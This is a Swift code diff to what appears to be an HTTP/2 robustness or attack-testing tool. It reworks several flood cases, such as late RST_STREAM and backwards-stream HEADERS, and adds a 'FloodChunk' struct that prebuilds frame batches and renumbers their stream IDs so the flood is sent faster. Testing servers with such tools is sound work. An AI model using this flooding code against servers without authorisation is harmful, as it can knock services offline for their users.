@@ -49,9 +49,10 @@ extension Attack {
         + (0..<7).flatMap { _ in empty }
         + Frame(.continuation, .endHeaders, stream: stream).bytes
     },
-    flood("late-reset", "RST_STREAM on a stream that is gone", calm: "not open") { stream in
-      stream == 1 ? call(empty, on: 1) : reset(1)
-    },
+    flood(
+      "late-reset", "RST_STREAM on a stream that is gone", calm: "not open",
+      before: call(empty, on: 1) + reset(1)
+    ) { _ in reset(1) },
     flood(
       "stream-backwards", "HEADERS on a smaller stream than seen (RFC 9113, 5.1.1)",
       cutOff: .error(1), before: open(input, on: 0x0fff_ffff)
@@ -77,24 +78,63 @@ extension Attack {
           continue
         }
         connection.say(before)
-        var stream: UInt32 = 1
-        while assault.goesOn, !connection.isClosed, connection.goAway == nil,
-          stream < 0x0fff_0000
-        {
-          var bytes: [UInt8] = []
-          var said = 0
-          while bytes.count < 32_768 {
-            bytes += frames(stream)
-            stream += 2
-            said += 1
-          }
-          connection.say(bytes)
-          assault.said(said)
-          connection.hear(for: .milliseconds(1))
+        var chunk = FloodChunk(frames)
+        var rounds = 0
+        while assault.goesOn, !connection.isClosed, connection.goAway == nil, chunk.hasStreams {
+          connection.say(chunk.next())
+          assault.said(chunk.repeats)
+          rounds += 1
+          if rounds % 4 == 0 { connection.hear(for: .milliseconds(1)) }
         }
         if !connection.isClosed { connection.hear(for: min(.milliseconds(500), assault.left)) }
         assault.note(connection)
       }
     }
+  }
+}
+
+/// The same frames many times over, each time on the next stream; made once, then only renumbered,
+/// so that what attacks is not slower than what is attacked.
+private struct FloodChunk {
+  let repeats: Int
+  private var bytes: [UInt8] = []
+  /// Where the numbers of streams stand that go up.
+  private var places: [Int] = []
+  private var lastStream: UInt32
+
+  private static let size = 32_768
+  private static let endOfStreams: UInt32 = 0x7fff_0000
+
+  init(_ frames: (_ stream: UInt32) -> [UInt8]) {
+    let (one, other) = (frames(1), frames(3))
+    repeats = max(1, Self.size / one.count)
+    var offset = 0
+    var rest = one[...]
+    var numbers: [Int] = []
+    while let frame = Frame(takingFrom: &rest) {
+      // The last byte of the number differs where it goes up.
+      let place = offset + Frame.headerCount - 4
+      if one.count == other.count, one[place + 3] != other[place + 3] { numbers.append(place) }
+      offset += Frame.headerCount + frame.payload.count
+    }
+    for index in 0..<repeats {
+      bytes += index == 0 ? one : frames(UInt32(1 + 2 * index))
+      places += numbers.map { $0 + index * one.count }
+    }
+    lastStream = 1
+  }
+
+  var hasStreams: Bool { lastStream < Self.endOfStreams }
+
+  /// The next chunk, each time of higher streams.
+  mutating func next() -> [UInt8] {
+    defer {
+      lastStream += UInt32(2 * repeats)
+      for place in places {
+        let number = UInt32(bigEndianBytes: bytes[place..<place + 4]) + UInt32(2 * repeats)
+        for (offset, byte) in number.bigEndianBytes.enumerated() { bytes[place + offset] = byte }
+      }
+    }
+    return bytes
   }
 }
